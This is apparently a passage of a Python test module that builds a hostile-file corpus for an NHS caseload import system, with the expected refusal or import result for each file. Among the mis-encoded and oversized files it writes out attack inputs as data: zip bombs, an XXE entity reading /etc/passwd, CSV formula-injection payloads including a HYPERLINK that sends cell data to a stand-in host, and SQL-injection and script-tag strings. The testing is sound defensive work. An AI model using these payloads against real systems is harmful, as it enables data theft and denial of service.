"""The hostile-file corpus (#13, reliability anchors F9): population and care events feed files that
are malformed, mis-encoded, oversized or hostile, made by code (nothing committed), the same bytes
on every run.

Each file says what must become of it whichever way it arrives (the web upload, `import_population`,
the drop folder):
- REFUSED: a file-level error; nothing written;
- ROWS: row-numbered errors at exactly `error_rows` (the file's row numbers, headings being row 1);
  refused whole, nothing written;
- IMPORTS: an odd but valid file (a BOM, Windows-1252, CR line ends, a formula-like name): all of
  its `patients` rows (feed: events) are imported, none left out. Most odd files come twice, clean
  and with one bad row, so that the oddity is shown both read right and refused whole.

NHS numbers are from the 999 test range (pcn.nhs_number.synthetic_sequence); practices P99001 (the
uploader's), P99002 (another in the PCN) and P99009 (inactive) are what the routes set up.
"""

import codecs
import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

from pcn.nhs_number import synthetic_sequence
from tests.caseload.import_helpers import CANONICAL_HEADER, EMIS_HEADER

REFUSED, ROWS, IMPORTS = "refused", "rows", "imports"
PRACTICE, OTHER_PRACTICE, INACTIVE_PRACTICE = "P99001", "P99002", "P99009"

CANONICAL = CANONICAL_HEADER.split(",")
EMIS = EMIS_HEADER.split(",")
FEED = ["NHS Number", "Event", "Event Date", "Provider", "Summary"]

NUMBERS = list(synthetic_sequence(start=970_000))[:400]
OTHER_PRACTICE_PATIENT = NUMBERS[-1]  # the routes register this patient at P99002


@dataclass(frozen=True)
class Hostile:
    name: str  # unique, with the suffix the upload and the drop folder see
    kind: str  # the family, for the figures
    make: Callable[[], bytes]
    expect: str = REFUSED
    error_rows: tuple[int, ...] = ()
    patients: int = 0
    feed: bool = False
    profile: str = "canonical"
    big: bool = False  # several MB or seconds to read: the fast tests take only some
    web: str = ""  # what the web upload makes of it, when not `expect` (its form goes by the name)

    @property
    def content(self) -> bytes:
        return self.make()


# --- Rows -------------------------------------------------------------------------------------------


def person(number: str, **cells: str) -> list[str]:
    """A valid canonical row for `number` (at P99001), with `cells` changed."""
    row = dict(
        zip(
            CANONICAL,
            [
                number, "Ada", "Lovelace", "10/12/1945", "F", PRACTICE, "1 High Street", "ZZ99 1AB",
                "01632 960000", "07700 900000", "English", "N", "N", "N", "N", "", "N", "N", "50.0",
                "0.20", "1", "0", "diabetes",
            ],
            strict=True,
        )
    )  # fmt: skip
    row.update(cells)
    return list(row.values())


def event(number: str, **cells: str) -> list[str]:
    row = {"NHS Number": number, "Event": "Hospital admission", "Event Date": "01/10/2026 10:00",
           "Provider": "Royal County Hospital", "Summary": "Fall"}  # fmt: skip
    row.update(cells)
    return list(row.values())


def emis(number: str, *, term: str = "Type 2 diabetes mellitus", **cells: str) -> list[str]:
    row = {"NHS Number": number, "Full Name": "LOVELACE, Ada (Mrs)", "Date of Birth": "10-Dec-1945",
           "Gender": "Female", "Practice": PRACTICE, "Date": "01-Jan-2020", "Code Term": term}  # fmt: skip
    row.update(cells)
    return list(row.values())


def text(header: list[str], rows: list[list[str]], *, delimiter: str = ",", newline: str = "\r\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def encoded(
    header: list[str], rows: list[list[str]], encoding: str = "utf-8", **options: str
) -> Callable[[], bytes]:
    return lambda: text(header, rows, **options).encode(encoding)


def raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def valid(count: int, start: int = 0) -> list[list[str]]:
    return [person(number) for number in NUMBERS[start : start + count]]


def bad_check_digit(number: str) -> str:
    return number[:9] + str((int(number[9]) + 1) % 10)


# --- XLSX, written part by part (deterministic: fixed times, fixed order) ----------------------------

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def _cell_xml(reference: str, value: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


def column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def sheet_xml(rows: list[list[str]], *, dimension: str = "", extra_rows: str = "") -> bytes:
    body = "".join(
        f'<row r="{r}">'
        + "".join(_cell_xml(f"{column_letters(c)}{r}", value) for c, value in enumerate(row) if value != "")
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_NS}">{dim}<sheetData>{body}{extra_rows}</sheetData></worksheet>'.encode()


def xlsx(
    sheet: bytes | None,
    *,
    parts: dict[str, bytes] | None = None,
    workbook_type: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
) -> bytes:
    """A minimal workbook: its one sheet (None: a workbook with no sheet) and any `parts` besides."""
    sheets = f'<sheet name="Patients" sheetId="1" r:id="rId1" xmlns:r="{_REL}"/>' if sheet is not None else ""
    overrides = (
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_SHEET_TYPE}"/>' if sheet else ""
    )
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{workbook_type}"/>{overrides}</Types>'
        ).encode(),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_NS}"><sheets>{sheets}</sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + (
                f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
                if sheet
                else ""
            )
            + "</Relationships>"
        ).encode(),
    }
    if sheet is not None:
        files["xl/worksheets/sheet1.xml"] = sheet
    files.update(parts or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def workbook(header: list[str], rows: list[list[str]], **options: str) -> Callable[[], bytes]:
    return lambda: xlsx(sheet_xml([header, *rows], **options))


def _packed(data: bytes, part: str, head: bytes, repeated: bytes, times: int, tail: bytes) -> bytes:
    """`data` (a workbook) with `part` replaced by head + repeated × times + tail, written in chunks."""
    source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            if info.filename != part:
                target.writestr(info, source.read(info))
        info = zipfile.ZipInfo(part, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w", force_zip64=True) as handle:
            handle.write(head)
            chunk = repeated * 100_000
            for _ in range(times // 100_000):
                handle.write(chunk)
            handle.write(tail)
    return buffer.getvalue()


def _bomb(header: list[str], row: list[str]) -> bytes:
    """A sheet of 400 MB of empty rows packed into well under 1 MB."""
    sheet = sheet_xml([header, row]).decode()
    head, tail = sheet.split("</sheetData>")
    return _packed(
        xlsx(sheet.encode()),
        "xl/worksheets/sheet1.xml",
        head.encode(),
        b"<row/>",
        70_000_000,
        ("</sheetData>" + tail).encode(),
    )


def _shared_strings_bomb() -> bytes:
    """20 million shared strings (360 MB) packed into under 1 MB: openpyxl reads them all first."""
    good = xlsx(sheet_xml([CANONICAL, person(NUMBERS[0])]), parts={"xl/sharedStrings.xml": b""})
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_NS}">'.encode()
    return _packed(good, "xl/sharedStrings.xml", head, b"<si><t>ab</t></si>", 20_000_000, b"</sst>")


def _truncated(data: bytes, fraction: float) -> bytes:
    return data[: int(len(data) * fraction)]


# --- The corpus ---------------------------------------------------------------------------------------


def population() -> Iterator[Hostile]:
    n = NUMBERS
    one = [person(n[0])]
    two = valid(2)

    # Encodings.
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        yield Hostile(f"encoding-{encoding}.csv", "encoding", encoded(CANONICAL, two, encoding))
    yield Hostile("encoding-utf-16-bom-named-txt.txt", "encoding", encoded(CANONICAL, two, "utf-16"))  # fmt: skip
    accented = [person(n[0], family_name="Brontë", address="£5 Rue Café – ’t Hof")]
    yield Hostile("encoding-cp1252.csv", "encoding", encoded(CANONICAL, accented, "cp1252"), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("encoding-cp1252-bad-row.csv", "encoding", encoded(CANONICAL, [*accented, person(n[1], date_of_birth="31/02/1950")], "cp1252"), ROWS, (3,))  # fmt: skip
    yield Hostile("encoding-latin-1.csv", "encoding", encoded(CANONICAL, [person(n[0], family_name="Müller")], "latin-1"), IMPORTS, patients=1)  # fmt: skip
    # Latin-1's C1 controls are bytes Windows-1252 leaves undefined: neither encoding reads the file.
    yield Hostile("encoding-latin-1-c1-controls.csv", "encoding", lambda: text(CANONICAL, one).encode() + b"\x81\x8d\x8f\x90\x9d\r\n")  # fmt: skip
    yield Hostile("encoding-utf-8.csv", "encoding", encoded(CANONICAL, accented), IMPORTS, patients=1)
    yield Hostile("encoding-utf-8-bom.csv", "encoding", encoded(CANONICAL, accented, "utf-8-sig"), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("encoding-utf-8-bom-bad-row.csv", "encoding", encoded(CANONICAL, [*accented, person(n[1], sex="X")], "utf-8-sig"), ROWS, (3,))  # fmt: skip
    yield Hostile("encoding-double-bom.csv", "encoding", lambda: codecs.BOM_UTF8 + text(CANONICAL, two).encode("utf-8-sig"), IMPORTS, patients=2)  # fmt: skip
    yield Hostile("encoding-bom-only.csv", "encoding", raw(codecs.BOM_UTF8))
    yield Hostile("encoding-utf-16-bom-only.csv", "encoding", raw(codecs.BOM_UTF16_LE))
    yield Hostile("encoding-bom-then-blank-line.csv", "encoding", raw(codecs.BOM_UTF8 + b"\r\n" + text(CANONICAL, two).encode()))  # fmt: skip
    yield Hostile("encoding-bom-mid-file.csv", "encoding", lambda: text(CANONICAL, two).encode() + codecs.BOM_UTF8 + text(CANONICAL, two).encode(), ROWS, (4, 5, 6))  # fmt: skip
    # UTF-8 rows then a Windows-1252 one (refused for its bad row; the mix itself is read as Windows-1252).
    yield Hostile("encoding-mixed-bad-row.csv", "encoding", lambda: text(CANONICAL, [person(n[0], given_name="Zoë")]).encode() + text(CANONICAL, [person(n[1], given_name="Zoë", sex="Q")]).split("\r\n", 1)[1].encode("cp1252"), ROWS, (3,))  # fmt: skip
    for name, character in (("2-byte", "ë"), ("3-byte", "’"), ("4-byte", "\U0001f600")):
        # A file cut inside a UTF-8 character: its last row is short of cells (no family name).
        yield Hostile(f"truncated-utf-8-{name}.csv", "truncated", lambda character=character: (text(CANONICAL, one) + n[1] + ",Zo" + character).encode()[:-1], ROWS, (3,))  # fmt: skip
    # Cut after the practice code: without its other cells the row would clear the patient's values.
    yield Hostile("truncated-after-practice.csv", "truncated", lambda: (text(CANONICAL, one) + ",".join(person(n[1])[:6])).encode(), ROWS, (3,))  # fmt: skip
    for fraction in (0.25, 0.5, 0.9):
        yield Hostile(f"truncated-mid-row-{int(fraction * 100)}.csv", "truncated", lambda fraction=fraction: text(CANONICAL, [*valid(3), person(n[3], given_name="X" * 300)]).encode()[: int(len(text(CANONICAL, valid(3)).encode()) + 60 + 200 * fraction)], ROWS, (5,))  # fmt: skip
    yield Hostile("truncated-header.csv", "truncated", lambda: text(CANONICAL, []).encode()[:40])

    # Control bytes.
    for byte in (0, 1, 7, 8, 11, 12, 27, 31):
        yield Hostile(f"control-{byte:02x}-in-name.csv", "control bytes", encoded(CANONICAL, [person(n[0]), person(n[1], given_name=f"A{chr(byte)}da")]), ROWS, (3,))  # fmt: skip
    for column in ("nhs_number", "practice_code", "date_of_birth", "risk_score", "conditions", "postcode"):
        yield Hostile(f"control-nul-in-{column}.csv", "control bytes", encoded(CANONICAL, [person(n[0], **{column: person(n[0])[CANONICAL.index(column)] + "\x00"})]), ROWS, (2,))  # fmt: skip
    yield Hostile("control-nul-in-header.csv", "control bytes", lambda: text(CANONICAL, two).replace("sex", "s\x00ex", 1).encode())  # fmt: skip
    yield Hostile("control-nul-padding.csv", "control bytes", lambda: text(CANONICAL, two).encode() + b"\x00" * 4096, ROWS, (4,))  # fmt: skip
    yield Hostile("control-nul-only.csv", "control bytes", raw(b"\x00" * 1024))
    yield Hostile("control-esc-sequences.csv", "control bytes", encoded(CANONICAL, [person(n[0], address="\x1b[31mred\x1b[0m")]), ROWS, (2,))  # fmt: skip
    yield Hostile("control-del-and-c1.csv", "control bytes", encoded(CANONICAL, [person(n[0], address="a\x7fb\x85c")]), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("control-xlsx-escape.xlsx", "control bytes", workbook(CANONICAL, [person(n[0], given_name="A_x0000_da")]), ROWS, (2,))  # fmt: skip

    # Empty and nearly empty.
    yield Hostile("empty.csv", "empty", raw(b""))
    yield Hostile("empty.xlsx", "empty", raw(b""))
    yield Hostile("one-newline.csv", "empty", raw(b"\n"))
    yield Hostile("blank-lines.csv", "empty", raw(b"\r\n" * 50))
    yield Hostile("spaces.csv", "empty", raw(b"   \t  \r\n  \r\n"))
    yield Hostile("commas-only.csv", "empty", raw(b",,,,,\r\n,,,,\r\n"))
    yield Hostile("header-only.csv", "empty", encoded(CANONICAL, []))
    yield Hostile("header-only-no-newline.csv", "empty", lambda: ",".join(CANONICAL).encode())
    yield Hostile("header-then-blank-rows.csv", "empty", lambda: text(CANONICAL, []).encode() + b",,,,\r\n" * 100)  # fmt: skip
    yield Hostile("header-only.xlsx", "empty", workbook(CANONICAL, []))
    yield Hostile("no-sheet.xlsx", "empty", lambda: xlsx(None))
    yield Hostile("empty-sheet.xlsx", "empty", lambda: xlsx(sheet_xml([])))

    # Delimiters.
    for name, delimiter in (("semicolon", ";"), ("tab", "\t"), ("pipe", "|")):
        yield Hostile(f"delimiter-{name}.csv", "delimiter", encoded(CANONICAL, two, delimiter=delimiter))
    yield Hostile("delimiter-semicolon-body.csv", "delimiter", lambda: (",".join(CANONICAL) + "\r\n" + text(CANONICAL, two, delimiter=";").split("\r\n", 1)[1]).encode(), ROWS, (2, 3))  # fmt: skip
    yield Hostile("delimiter-extra-cells.csv", "delimiter", encoded(CANONICAL, [person(n[0]), [*person(n[1]), "surplus"]]), ROWS, (3,))  # fmt: skip
    yield Hostile("delimiter-semicolon-decimal-comma.csv", "delimiter", encoded(CANONICAL, [person(n[0], risk_score="50,5")], delimiter=";"))  # fmt: skip

    # Headings.
    wide = [*CANONICAL, *(f"extra_{i}" for i in range(10_000 - len(CANONICAL)))]
    yield Hostile("header-10000-columns.csv", "headings", encoded(wide, [[*person(n[0], sex="X"), *[""] * (len(wide) - len(CANONICAL))]]), ROWS, (2,), big=True)  # fmt: skip
    yield Hostile("header-10000-columns-only.csv", "headings", encoded([f"c{i}" for i in range(10_000)], [["1"] * 10_000]))  # fmt: skip
    yield Hostile("header-duplicate.csv", "headings", encoded([*CANONICAL, "nhs_number"], [[*person(n[0]), n[1]]]))  # fmt: skip
    yield Hostile("header-duplicate-case.csv", "headings", encoded([*CANONICAL, " NHS_Number "], [[*person(n[0]), n[1]]]))  # fmt: skip
    yield Hostile("header-duplicate-unmapped.csv", "headings", encoded([*CANONICAL, "note", "note"], [[*person(n[0]), "a", "b"]]), IMPORTS, patients=1)  # fmt: skip
    for missing in ("nhs_number", "practice_code", "date_of_birth", "family_name", "conditions"):
        header = [h for h in CANONICAL if h != missing]
        rows = [[c for h, c in zip(CANONICAL, person(n[0]), strict=True) if h != missing]]
        yield Hostile(f"header-missing-{missing}.csv", "headings", encoded(header, rows))
    yield Hostile("header-renamed.csv", "headings", encoded([h.upper().replace("_", " ") for h in CANONICAL], two))  # fmt: skip
    yield Hostile("header-is-data.csv", "headings", encoded(person(n[0]), [person(n[1])]))
    yield Hostile("header-formula.csv", "headings", encoded(["=cmd|' /C calc'!A0", *CANONICAL[1:]], two))
    yield Hostile("header-blank-first-row.csv", "headings", lambda: b",,,\r\n" + text(CANONICAL, two).encode())  # fmt: skip
    yield Hostile("header-spaces-and-case.csv", "headings", encoded([f"  {h.upper()} " for h in CANONICAL], two), IMPORTS, patients=2)  # fmt: skip
    yield Hostile("header-10mb.csv", "headings", lambda: ("x" * 10_485_760 + "," + ",".join(CANONICAL) + "\r\n").encode(), big=True)  # fmt: skip

    # Oversized content.
    yield Hostile("cell-10mb.csv", "oversized", encoded(CANONICAL, [person(n[0]), person(n[1], address="A" * 10_485_760)]), big=True)  # fmt: skip
    yield Hostile("cell-131073.csv", "oversized", encoded(CANONICAL, [person(n[0], address="A" * 131_073)]))
    yield Hostile("cell-130000.csv", "oversized", encoded(CANONICAL, [person(n[0], address="A" * 130_000)]), ROWS, (2,))  # fmt: skip
    yield Hostile("cell-long-name.csv", "oversized", encoded(CANONICAL, [person(n[0], given_name="N" * 101)]), ROWS, (2,))  # fmt: skip
    yield Hostile("cell-long-postcode.csv", "oversized", encoded(CANONICAL, [person(n[0], postcode="ZZ99 1ABCDEF")]), ROWS, (2,))  # fmt: skip
    yield Hostile("cell-10mb.xlsx", "oversized", workbook(CANONICAL, [person(n[0], given_name="G" * 10_485_760)]), big=True)  # fmt: skip
    yield Hostile("line-1mb-no-newline.csv", "oversized", lambda: text(CANONICAL, []).encode() + b"9" * 1_048_576)  # fmt: skip
    yield Hostile("line-very-long-quoted.csv", "oversized", lambda: text(CANONICAL, []).encode() + b'"' + b"x" * 200_000)  # fmt: skip
    yield Hostile("empty-rows-2-million.csv", "oversized", lambda: ( text(CANONICAL, one).encode() + b"\r\n" * 2_000_000 + text(CANONICAL, [person(n[1], sex="Q")]).encode().split(b"\r\n", 1)[1] ), ROWS, (2_000_003,), big=True)  # fmt: skip
    yield Hostile("empty-comma-rows-1-million.csv", "oversized", lambda: text(CANONICAL, one).encode() + b"," * 22 * 1 + b"\r\n" + (b"," * 22 + b"\r\n") * 1_000_000, IMPORTS, patients=1, big=True)  # fmt: skip
    yield Hostile("too-big-51mb.csv", "oversized", lambda: text(CANONICAL, one).encode() + b"\r\n" * (51 * 1_048_576 // 2), big=True)  # fmt: skip
    yield Hostile("zip-bomb.xlsx", "zip bomb", lambda: _bomb(CANONICAL, person(n[0])), big=True)
    yield Hostile("zip-bomb-shared-strings.xlsx", "zip bomb", _shared_strings_bomb, big=True)
    yield Hostile("xlsx-dimension-bomb.xlsx", "zip bomb", lambda: xlsx(sheet_xml([CANONICAL, person(n[0], sex="Q")], dimension="A1:XFD1048576", extra_rows='<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>')), ROWS, (2, 1_048_576))  # fmt: skip
    yield Hostile("xlsx-far-row.xlsx", "zip bomb", lambda: xlsx(sheet_xml([CANONICAL, person(n[0])], extra_rows='<row r="99999999"><c r="A99999999" t="inlineStr"><is><t>x</t></is></c></row>')))  # fmt: skip
    yield Hostile("xlsx-far-column.xlsx", "zip bomb", lambda: xlsx(sheet_xml([CANONICAL, person(n[0])], extra_rows="".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in range(3, 3000)))), big=True)  # fmt: skip

    # Not what the name says.
    yield Hostile("xlsm-macro.xlsm", "file type", lambda: xlsx( sheet_xml([CANONICAL, person(n[0])]), parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, workbook_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml", ))  # fmt: skip
    yield Hostile("xlsm-named-xlsx.xlsx", "file type", lambda: xlsx( sheet_xml([CANONICAL, person(n[0])]), parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, workbook_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml", ))  # fmt: skip
    yield Hostile("text-named-xlsx.xlsx", "file type", raw(b"This is a letter, not a spreadsheet.\r\nDear Dr Jones,\r\n"))  # fmt: skip
    yield Hostile("csv-named-xlsx.xlsx", "file type", encoded(CANONICAL, two), IMPORTS, patients=2)
    yield Hostile("old-xls.xls", "file type", raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504))
    yield Hostile("old-xls-named-csv.csv", "file type", raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504))  # fmt: skip
    yield Hostile("pdf-named-csv.csv", "file type", raw(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF"))  # fmt: skip
    yield Hostile("png-named-csv.csv", "file type", raw(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"))
    yield Hostile("html-named-csv.csv", "file type", raw(b"<html><script>alert(1)</script></html>"))
    yield Hostile("gzip-named-csv.csv", "file type", raw(b"\x1f\x8b\x08\x00" + bytes(range(256))))
    yield Hostile("docx-named-xlsx.xlsx", "file type", lambda: xlsx(None, parts={"word/document.xml": b"<w/>"}))  # fmt: skip
    yield Hostile("exe-named-csv.csv", "file type", raw(b"MZ\x90\x00" + b"\x00" * 200))
    yield Hostile("no-suffix", "file type", encoded(CANONICAL, two), IMPORTS, patients=2, web=REFUSED)
    yield Hostile("double-suffix.csv.exe", "file type", encoded(CANONICAL, two), IMPORTS, patients=2, web=REFUSED)  # fmt: skip
    yield Hostile("json.csv", "file type", raw(b'[{"nhs_number": "1"}]'))

    # Damaged zips.
    good = xlsx(sheet_xml([CANONICAL, *two]))
    yield Hostile("xlsx-good.xlsx", "damaged xlsx", raw(good), IMPORTS, patients=2)
    yield Hostile("xlsx-good-bad-row.xlsx", "damaged xlsx", workbook(CANONICAL, [*two, person(n[2], date_of_birth="01/01/2099")]), ROWS, (4,))  # fmt: skip
    for fraction in (0.1, 0.5, 0.9, 0.99):
        yield Hostile(f"xlsx-truncated-{int(fraction * 100)}.xlsx", "damaged xlsx", raw(_truncated(good, fraction)))  # fmt: skip
    yield Hostile("zip-magic-only.xlsx", "damaged xlsx", raw(b"PK\x03\x04"))
    yield Hostile("zip-garbage.xlsx", "damaged xlsx", raw(b"PK\x03\x04" + bytes(range(256)) * 8))
    yield Hostile("zip-empty-archive.xlsx", "damaged xlsx", lambda: _empty_zip())
    yield Hostile("zip-flipped-bytes.xlsx", "damaged xlsx", raw(good[:200] + bytes(b ^ 0xFF for b in good[200:260]) + good[260:]))  # fmt: skip
    yield Hostile("xlsx-bad-xml.xlsx", "damaged xlsx", lambda: xlsx(b"<worksheet><sheetData><row><c>"))
    yield Hostile("xlsx-xml-entity-bomb.xlsx", "damaged xlsx", lambda: xlsx(_billion_laughs()))
    yield Hostile("xlsx-external-entity.xlsx", "damaged xlsx", lambda: xlsx( b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet xmlns="' + _NS.encode() + b'"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>' ))  # fmt: skip
    yield Hostile("xlsx-missing-sheet-part.xlsx", "damaged xlsx", lambda: _without(good, "xl/worksheets/sheet1.xml"))  # fmt: skip
    yield Hostile("xlsx-missing-content-types.xlsx", "damaged xlsx", lambda: _without(good, "[Content_Types].xml"))  # fmt: skip

    # Formula payloads: refused where the column checks its values; kept as text (the exports escape
    # them) where it is free text.
    payloads = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "\t=1+1", "=1+1"]  # fmt: skip
    for index, payload in enumerate(payloads):
        for column in ("nhs_number", "date_of_birth", "sex", "practice_code", "risk_score", "conditions"):
            yield Hostile(f"formula-{index}-in-{column}.csv", "formula", encoded(CANONICAL, [person(n[0], **{column: payload})]), ROWS, (2,))  # fmt: skip
        yield Hostile(f"formula-{index}-in-names.csv", "formula", encoded(CANONICAL, [person(n[index], given_name=payload[:100], family_name=payload[:100], address=payload)]), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("formula-in-names.xlsx", "formula", workbook(CANONICAL, [person(n[0], given_name="=1+1", family_name="@SUM(A1)")]), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("formula-plus-risk.csv", "formula", encoded(CANONICAL, [person(n[0], risk_score="+5")]), IMPORTS, patients=1)  # fmt: skip

    # Values.
    for name, dob in (
        ("31-02", "31/02/1950"), ("30-02", "30/02/1950"), ("29-02-non-leap", "29/02/1951"), ("00-01", "00/01/1950"),
        ("32-01", "32/01/1950"), ("13th-month", "01/13/1950"), ("us-order", "12/31/1950"), ("year-1899", "31/12/1899"),
        ("year-0001", "01/01/0001"), ("year-10000", "01/01/10000"), ("future", "01/01/2099"),
        ("two-digit-year", "10/12/45"), ("text", "yesterday"), ("iso-invalid", "1950-02-30"), ("blank", ""),
        ("excel-serial", "16781"), ("negative", "-1/-1/-1"), ("formula", "=TODAY()"),
    ):  # fmt: skip
        yield Hostile(f"date-{name}.csv", "dates", encoded(CANONICAL, [person(n[0]), person(n[1], date_of_birth=dob)]), ROWS, (3,))  # fmt: skip
    yield Hostile("date-leap-day-valid.csv", "dates", encoded(CANONICAL, [person(n[0], date_of_birth="29/02/1952")]), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("date-future.xlsx", "dates", workbook(CANONICAL, [person(n[0], date_of_birth="2099-01-01")]), ROWS, (2,))  # fmt: skip
    for name, number in (
        ("check-digit", bad_check_digit(n[0])), ("9-digits", n[0][:9]), ("11-digits", n[0] + "1"), ("letters", n[0][:9] + "A"),
        ("all-letters", "ABCDEFGHIJ"), ("blank", ""), ("negative", "-" + n[0][1:]),
        ("float", n[0] + ".0"), ("exponent", "9.99E+09"), ("unicode-digits", "٩٩٩٠٠٠٠٠١٨"), ("fullwidth", "９９９"),
        ("spaces-only", "   "), ("sql", "9990000018'; DROP TABLE caseload_patient;--"), ("html", "<script>alert(1)</script>"),
    ):  # fmt: skip
        yield Hostile(f"nhs-{name}.csv", "NHS numbers", encoded(CANONICAL, [person(n[0]), person(n[1], nhs_number=number)]), ROWS, (3,))  # fmt: skip
    # Valid by the modulus-11 rule and by the reference package (nhs-number 2.2), though never issued.
    yield Hostile("nhs-zeros.csv", "NHS numbers", encoded(CANONICAL, [person(n[0]), person("0000000000")]), IMPORTS, patients=2)  # fmt: skip
    yield Hostile("nhs-duplicate.csv", "NHS numbers", encoded(CANONICAL, [person(n[0]), person(n[1]), person(n[0])]), ROWS, (4,))  # fmt: skip
    yield Hostile("nhs-duplicate-spaced.csv", "NHS numbers", encoded(CANONICAL, [person(n[0]), person(f"{n[0][:3]} {n[0][3:6]} {n[0][6:]}")]), ROWS, (3,))  # fmt: skip
    yield Hostile("nhs-formatted.csv", "NHS numbers", encoded(CANONICAL, [person(f"{n[0][:3]}-{n[0][3:6]}-{n[0][6:]}")]), IMPORTS, patients=1)  # fmt: skip
    yield Hostile("nhs-last-row-bad.csv", "NHS numbers", encoded(CANONICAL, [*valid(50), person(bad_check_digit(n[50]))]), ROWS, (52,))  # fmt: skip
    for name, code in (
        ("not-in-pcn", "Y99999"), ("inactive", INACTIVE_PRACTICE), ("blank", ""), ("lowercase-unknown", "zz0000"),
        ("too-long", "P990011"), ("formula", "=P99001"), ("spaces", "P99 001"), ("nul", "P99\x00001"),
    ):  # fmt: skip
        expect_rows = (3,)
        yield Hostile(f"ods-{name}.csv", "ODS codes", encoded(CANONICAL, [person(n[0]), person(n[1], practice_code=code)]), ROWS, expect_rows)  # fmt: skip
    yield Hostile("ods-lowercase-known.csv", "ODS codes", encoded(CANONICAL, [person(n[0], practice_code=PRACTICE.lower())]), IMPORTS, patients=1)  # fmt: skip
    for column, value in (
        ("sex", "X"), ("risk_score", "101"), ("risk_score", "NaN"), ("risk_score", "Infinity"), ("risk_score", "1e999"),
        ("efi_score", "1.5"), ("ae_attendances_12m", "1.5"), ("ae_attendances_12m", "366"), ("emergency_admissions_12m", "-1"),
        ("interpreter_needed", "maybe"), ("conditions", "diabetes;unicorns"), ("care_home_name", "Nowhere House"),
        ("is_deceased", "2"), ("family_name", ""),
    ):  # fmt: skip
        yield Hostile(f"value-{column}-{value or 'blank'}.csv", "values", encoded(CANONICAL, [person(n[0]), person(n[1], **{column: value})]), ROWS, (3,))  # fmt: skip

    # Line ends and quoting.
    for name, newline in (("lf", "\n"), ("cr", "\r"), ("crlf", "\r\n")):
        yield Hostile(f"newline-{name}.csv", "line ends", encoded(CANONICAL, valid(3), newline=newline), IMPORTS, patients=3)  # fmt: skip
        yield Hostile(f"newline-{name}-bad-row.csv", "line ends", encoded(CANONICAL, [*valid(2), person(n[2], sex="Q")], newline=newline), ROWS, (4,))  # fmt: skip
    yield Hostile("newline-mixed.csv", "line ends", lambda: (",".join(CANONICAL) + "\r\n" + ",".join(person(n[0])) + "\n" + ",".join(person(n[1])) + "\r" + ",".join(person(n[2])) + "\r\n").encode(), IMPORTS, patients=3)  # fmt: skip
